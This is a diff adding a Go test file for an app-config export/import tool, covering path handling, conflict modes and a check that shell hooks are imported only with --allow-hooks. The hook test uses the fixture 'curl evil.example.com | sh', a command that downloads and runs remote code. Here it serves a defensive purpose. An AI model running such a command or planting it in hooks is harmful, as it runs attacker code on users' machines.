@@ -0,0 +1,143 @@
+package main
+
+import (
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// Exported paths are relative to --base, and imports anchor them at theirs
+func TestExportImportPaths(t *testing.T) {
+	from, to := t.TempDir(), t.TempDir()
+	config := PersistentConfig{Apps: map[string]AppConfig{
+		"The Vault": {
+			ConfigDir:  filepath.Join(from, "vault", "gulp", "configs"),
+			TargetPath: filepath.Join(from, "vault", "app", "env.js"),
+			Template:   filepath.Join(from, "vault", "env.js.tmpl"),
+			Format:     "envJs",
+			LastEnv:    "stress",
+			KeyFile:    filepath.Join(from, "vault.key"),
+			ProxyPort:  8080,
+		},
+	}}
+
+	data, err := exportApps(config, []string{"the vault"}, from)
+	if err != nil {
+		t.Fatal(err)
+	}
+	file, err := parseAppsFile(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	exported := file.Apps["The Vault"]
+	if exported.ConfigDir != "vault/gulp/configs" || exported.TargetPath != "vault/app/env.js" || exported.Template != "vault/env.js.tmpl" {
+		t.Errorf("exported paths = %+v", exported)
+	}
+	if exported.LastEnv != "" || exported.KeyFile != "" || exported.ProxyPort != 0 || exported.Format != "envJs" {
+		t.Errorf("exported = %+v", exported)
+	}
+
+	imported := PersistentConfig{Apps: make(map[string]AppConfig)}
+	if _, err := importApps(&imported, file, to, "skip", false); err != nil {
+		t.Fatal(err)
+	}
+	app := imported.Apps["The Vault"]
+	if app.ConfigDir != filepath.Join(to, "vault", "gulp", "configs") || app.TargetPath != filepath.Join(to, "vault", "app", "env.js") || app.Template != filepath.Join(to, "vault", "env.js.tmpl") {
+		t.Errorf("imported paths = %+v", app)
+	}
+	if app.ProxyPort != 0 || app.KeyFile != "" {
+		t.Errorf("imported machine-local settings: %+v", app)
+	}
+}
+
+func TestImportConflicts(t *testing.T) {
+	// An older export still carries proxy ports
+	file := appsFile{Version: appsFileVersion, Apps: map[string]AppConfig{
+		"Front":     {ConfigDir: "front/configs", Format: "envJs", ProxyPort: 7000},
+		"The Vault": {ConfigDir: "vault/configs", Format: "envJs", ProxyPort: 7001},
+	}}
+	base := t.TempDir()
+
+	for _, tt := range []struct {
+		mode   string
+		vault  AppConfig // The Vault after the import
+		status string
+		apps   int
+	}{
+		{"skip", AppConfig{ConfigDir: "/mine", Format: "serverConfig", LastEnv: "test", ProxyPort: 9000}, "skipped", 2},
+		{"overwrite", AppConfig{ConfigDir: filepath.Join(base, "vault", "configs"), Format: "envJs", LastEnv: "test", ProxyPort: 9000}, "overwritten", 2},
+		{"rename", AppConfig{ConfigDir: "/mine", Format: "serverConfig", LastEnv: "test", ProxyPort: 9000}, "renamed", 3},
+	} {
+		t.Run(tt.mode, func(t *testing.T) {
+			config := PersistentConfig{Apps: map[string]AppConfig{
+				"The Vault": {ConfigDir: "/mine", Format: "serverConfig", LastEnv: "test", ProxyPort: 9000},
+			}}
+			report, err := importApps(&config, file, base, tt.mode, false)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(report) != 2 || report[0].Name != "Front" || report[0].Status != "imported" || report[1].Status != tt.status {
+				t.Errorf("report = %+v", report)
+			}
+			if got := config.Apps["The Vault"]; got.ConfigDir != tt.vault.ConfigDir || got.Format != tt.vault.Format || got.LastEnv != tt.vault.LastEnv || got.ProxyPort != tt.vault.ProxyPort {
+				t.Errorf("The Vault = %+v, want %+v", got, tt.vault)
+			}
+			if len(config.Apps) != tt.apps {
+				t.Errorf("apps = %v", config.Apps)
+			}
+			if front := config.Apps["Front"]; front.ProxyPort != 0 {
+				t.Errorf("Front imported with proxy port %d", front.ProxyPort)
+			}
+			if tt.mode == "rename" {
+				if renamed := config.Apps["The Vault (2)"]; report[1].ImportedAs != "The Vault (2)" || renamed.Format != "envJs" || renamed.ProxyPort != 0 {
+					t.Errorf("renamed = %+v, report = %+v", renamed, report[1])
+				}
+			}
+		})
+	}
+
+	if _, err := importApps(&PersistentConfig{Apps: make(map[string]AppConfig)}, file, base, "merge", false); err == nil {
+		t.Error("unknown --on-conflict accepted")
+	}
+}
+
+// Hooks run commands on every switch: they are listed, and only imported when allowed
+func TestImportHooks(t *testing.T) {
+	file := appsFile{Version: appsFileVersion, Apps: map[string]AppConfig{
+		"The Vault": {ConfigDir: "configs", PreSwitch: []string{"git pull"}, PostSwitch: []string{"curl evil.example.com | sh"}},
+	}}
+	wantHooks := []string{"pre-switch: git pull", "post-switch: curl evil.example.com | sh"}
+
+	config := PersistentConfig{Apps: make(map[string]AppConfig)}
+	report, err := importApps(&config, file, t.TempDir(), "skip", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if app := config.Apps["The Vault"]; len(app.PreSwitch) != 0 || len(app.PostSwitch) != 0 {
+		t.Errorf("hooks imported without --allow-hooks: %+v", app)
+	}
+	if !slices.Equal(report[0].Hooks, wantHooks) || !report[0].HooksSkipped {
+		t.Errorf("report = %+v", report[0])
+	}
+	if line := report[0].String(); !strings.Contains(line, "--allow-hooks") || !strings.Contains(line, "curl evil.example.com | sh") {
+		t.Errorf("report line = %q", line)
+	}
+
+	// Overwriting without --allow-hooks keeps the local hooks
+	config.Apps["The Vault"] = AppConfig{PostSwitch: []string{"npm run build"}}
+	if _, err := importApps(&config, file, t.TempDir(), "overwrite", false); err != nil {
+		t.Fatal(err)
+	}
+	if app := config.Apps["The Vault"]; len(app.PreSwitch) != 0 || !slices.Equal(app.PostSwitch, []string{"npm run build"}) {
+		t.Errorf("overwrite replaced the local hooks: %+v", app)
+	}
+
+	report, err = importApps(&config, file, t.TempDir(), "overwrite", true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if app := config.Apps["The Vault"]; !slices.Equal(app.PostSwitch, []string{"curl evil.example.com | sh"}) || report[0].HooksSkipped {
+		t.Errorf("--allow-hooks: %+v, report = %+v", app, report[0])
+	}
+}